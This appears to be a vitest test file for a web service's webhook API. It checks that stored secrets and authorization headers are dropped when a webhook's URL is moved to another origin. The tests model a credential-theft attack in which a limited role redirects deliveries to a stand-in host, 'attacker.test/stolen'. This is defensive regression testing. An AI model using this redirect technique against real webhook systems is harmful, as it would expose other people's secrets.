import { createHmac, randomBytes } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { isBlockedAddress } from '../../src/lib/outbound/index.js'
import {
  startTestServer,
  tableResolver,
  type Received,
  type TestServer as Receiver,
} from '../../src/lib/outbound/test-servers.js'
import { startServer, type TestServer } from '../support/harness.js'
import { signUpOwner, type Account } from '../support/identity.js'
import { accountWithGrants, createCollection, createRecord, field, uniqueName } from './collections-support.js'

/**
 * A webhook's stored credentials never follow it to another origin (issue 25, finding 6): the secret and
 * the header values read as the mask, so whoever moves the webhook's URL to another scheme, host or port
 * must send them again, or they are dropped. The attack: a role that may update webhooks (and read the
 * collection whole, which the whole-read guard of decision 034 asks for) sees `Authorization` masked,
 * PATCHes the URL to a host of its own, and waits for the next delivery.
 *
 * ALLOW_PRIVATE_NETWORK is off; `hooks.test` (the owner's receiver) and `attacker.test` (another server)
 * are both on 127.0.0.1 and are the two hosts let through (lib/outbound's test hooks).
 */

const BASE = '/api/v1/webhooks'
const MASK = '\u2022'.repeat(8)
const SECRET = `whsec-${randomBytes(12).toString('hex')}`
const TOKEN = `Bearer hdr-${randomBytes(12).toString('hex')}`
const API_KEY = `key-${randomBytes(12).toString('hex')}`
const NEW_SECRET = `whsec-new-${randomBytes(12).toString('hex')}`
const NEW_TOKEN = `Bearer new-${randomBytes(12).toString('hex')}`

let server: TestServer
let hooks: Receiver
let attacker: Receiver
let owner: Account
let hooksBase: string
let attackerBase: string

const hmac = (secret: string, body: string) =>
  `sha256=${createHmac('sha256', secret).update(body, 'utf8').digest('hex')}`
const receivedAt = (receiver: Receiver, path: string): Received[] => receiver.received.filter((r) => r.path === path)

async function until<T>(read: () => T | Promise<T>, done: (value: T) => boolean, what: string): Promise<T> {
  const deadline = Date.now() + 30_000
  for (;;) {
    const value = await read()
    if (done(value)) return value
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`)
    await new Promise((resolve) => setTimeout(resolve, 25))
  }
}

/** A collection with a webhook the owner made: a secret, a bearer Authorization header and an API-key header. */
async function ownersWebhook(path: string): Promise<{ name: string; id: string }> {
  const name = uniqueName('moved')
  await createCollection(server, owner.token, { name, fields: [field('title', 'text')] })
  const made = await server.request('POST', BASE, {
    token: owner.token,
    body: {
      collection: name,
      events: ['record.create'],
      url: `${hooksBase}${path}`,
      secret: SECRET,
      headers: { Authorization: TOKEN, 'X-Api-Key': API_KEY },
    },
  })
  expect(made.status, made.text).toBe(201)
  return { name, id: made.body.data.id }
}

/** The role of the attack: webhooks read and update, and whole read of the collection (nothing that shows a credential). */
function updater(collection: string): Promise<Account> {
  return accountWithGrants(server, owner.token, [
    { resource: 'system/webhooks', action: 'read' },
    { resource: 'system/webhooks', action: 'update' },
    { resource: `collections/${collection}`, action: 'read' },
  ])
}

/** A record written by the owner, and the one delivery it makes, as `receiver` got it at `path`. */
async function nextDelivery(collection: string, receiver: Receiver, path: string): Promise<Received> {
  await createRecord(server, owner.token, collection, { title: 'after the change' })
  const [got] = await until(
    () => receivedAt(receiver, path),
    (list) => list.length === 1,
    `a delivery at ${path}`,
  )
  return got!
}

function carriesNothingStored(got: Received): void {
  const everything = JSON.stringify(got)
  for (const secret of [SECRET, TOKEN, API_KEY]) expect(everything).not.toContain(secret)
  expect(got.headers.authorization).toBeUndefined()
  expect(got.headers['x-api-key']).toBeUndefined()
  expect(got.headers['x-service-signature']).toBeUndefined()
}

beforeAll(async () => {
  hooks = await startTestServer((_req, res) => void res.writeHead(200).end('{}'))
  attacker = await startTestServer((_req, res) => void res.writeHead(200).end('{}'))
  const resolve = tableResolver({ 'hooks.test': ['127.0.0.1'], 'attacker.test': ['127.0.0.1'] })
  server = await startServer(
    {},
    {
      outbound: {
        resolve,
        isBlocked: (address, host) => !['hooks.test', 'attacker.test'].includes(host) && isBlockedAddress(address),
      },
      webhookDelivery: { backoffMs: 1 },
    },
  )
  owner = await signUpOwner(server)
  hooksBase = `http://hooks.test:${hooks.port}`
  attackerBase = `http://attacker.test:${attacker.port}`
})
afterAll(async () => {
  await server?.stop()
  await hooks?.close()
  await attacker?.close()
})

describe('a webhook moved to another origin loses the credentials it was given', () => {
  it('the attack: masked Authorization, url PATCHed to the attacker; the delivery there carries neither the header nor a signature', async () => {
    const { name, id } = await ownersWebhook('/orders')
    // With system/webhooks read and update alone, the whole-read guard refuses any change (decision 034).
    const webhooksOnly = await accountWithGrants(server, owner.token, [
      { resource: 'system/webhooks', action: 'read' },
      { resource: 'system/webhooks', action: 'update' },
    ])
    expect(
      (
        await server.request('PATCH', `${BASE}/${id}`, {
          token: webhooksOnly.token,
          body: { url: `${attackerBase}/stolen` },
        })
      ).status,
    ).toBe(403)

    const mallory = await updater(name)
    const seen = await server.request('GET', `${BASE}/${id}`, { token: mallory.token })
    expect(seen.body.data).toMatchObject({
      secret: MASK,
      hasSecret: true,
      headers: { Authorization: MASK, 'X-Api-Key': MASK },
    })
    const moved = await server.request('PATCH', `${BASE}/${id}`, {
      token: mallory.token,
      body: { url: `${attackerBase}/stolen` },
    })
    expect(moved.status, moved.text).toBe(200)
    expect(moved.body.data).toMatchObject({
      url: `${attackerBase}/stolen`,
      secret: null,
      hasSecret: false,
      headers: {},
    })

    const got = await nextDelivery(name, attacker, '/stolen')
    carriesNothingStored(got)
    expect(JSON.parse(got.body)).toMatchObject({ event: 'record.create', collection: name })
    // Nothing stored is left to send later either.
    expect(await server.app.services.webhooks.target(server.app.defaultProject.id, id)).toMatchObject({
      secret: null,
      headers: {},
    })
  })

  it('sending the masks back with the new url does not carry the stored values over', async () => {
    const { name, id } = await ownersWebhook('/masks')
    const mallory = await updater(name)
    const body = {
      url: `${attackerBase}/masks-back`,
      secret: MASK,
      headers: { Authorization: MASK, 'X-Api-Key': MASK },
    }
    const moved = await server.request('PATCH', `${BASE}/${id}`, { token: mallory.token, body })
    expect(moved.status, moved.text).toBe(200)
    expect(moved.body.data).toMatchObject({ hasSecret: false, headers: {} })
    carriesNothingStored(await nextDelivery(name, attacker, '/masks-back'))
  })

  it('another port or scheme of the same host is another origin', async () => {
    const { name, id } = await ownersWebhook('/port')
    // hooks.test on the attacker's port: the same name, another server.
    const moved = await server.request('PATCH', `${BASE}/${id}`, {
      token: owner.token,
      body: { url: `http://hooks.test:${attacker.port}/other-port` },
    })
    expect(moved.status, moved.text).toBe(200)
    expect(moved.body.data).toMatchObject({ hasSecret: false, headers: {} })
    carriesNothingStored(await nextDelivery(name, attacker, '/other-port'))
    const { id: second } = await ownersWebhook('/scheme')
    const upgraded = await server.request('PATCH', `${BASE}/${second}`, {
      token: owner.token,
      body: { url: `https://hooks.test:${hooks.port}/scheme` },
    })
    expect(upgraded.body.data).toMatchObject({ hasSecret: false, headers: {} })
  })

  it('the audit entry names what was dropped, never a value', async () => {
    const { name, id } = await ownersWebhook('/audited')
    const mallory = await updater(name)
    expect(
      (
        await server.request('PATCH', `${BASE}/${id}`, {
          token: mallory.token,
          body: { url: `${attackerBase}/audited` },
        })
      ).status,
    ).toBe(200)
    const audit = await server.request('GET', '/api/v1/audit-log?limit=100', { token: owner.token })
    const entry = audit.body.data.find((e: any) => e.action === 'webhook.updated' && e.target?.id === id)
    expect(entry?.details, audit.text.slice(0, 500)).toMatchObject({
      changed: ['url'],
      dropped: ['secret', 'headers.Authorization', 'headers.X-Api-Key'],
    })
    for (const secret of [SECRET, TOKEN, API_KEY]) expect(audit.text).not.toContain(secret)
  })
})

describe('what keeps working', () => {
  it('the same PATCH sending the values again: the new origin gets them, signed with the new secret', async () => {
    const { name, id } = await ownersWebhook('/resent')
    const body = { url: `${attackerBase}/resent`, secret: NEW_SECRET, headers: { Authorization: NEW_TOKEN } }
    const moved = await server.request('PATCH', `${BASE}/${id}`, { token: owner.token, body })
    expect(moved.status, moved.text).toBe(200)
    expect(moved.body.data).toMatchObject({ secret: MASK, hasSecret: true, headers: { Authorization: MASK } })
    const got = await nextDelivery(name, attacker, '/resent')
    expect(got.headers.authorization).toBe(NEW_TOKEN)
    expect(got.headers['x-service-signature']).toBe(hmac(NEW_SECRET, got.body))
    // The header not sent again stays behind.
    expect(got.headers['x-api-key']).toBeUndefined()
  })

  it('a change of path only (same origin) keeps the secret and the headers', async () => {
    const { name, id } = await ownersWebhook('/before')
    const moved = await server.request('PATCH', `${BASE}/${id}`, {
      token: owner.token,
      body: { url: `${hooksBase.replace('hooks.test', 'HOOKS.test')}/after?v=2` },
    })
    expect(moved.status, moved.text).toBe(200)
    expect(moved.body.data).toMatchObject({
      secret: MASK,
      hasSecret: true,
      headers: { Authorization: MASK, 'X-Api-Key': MASK },
    })
    const got = await nextDelivery(name, hooks, '/after?v=2')
    expect(got.headers.authorization).toBe(TOKEN)
    expect(got.headers['x-api-key']).toBe(API_KEY)
    expect(got.headers['x-service-signature']).toBe(hmac(SECRET, got.body))
  })
})
